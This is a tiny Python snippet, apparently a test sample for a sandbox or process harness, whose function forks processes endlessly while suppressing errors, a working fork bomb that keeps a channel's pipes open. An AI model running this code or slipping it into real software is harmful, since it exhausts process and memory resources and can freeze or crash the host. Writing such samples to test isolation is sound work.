"""Forks without end, each child too, and each holds the pipes of the channel open."""

import contextlib


def cell():
    import os

    while True:
        with contextlib.suppress(OSError):
            os.fork()
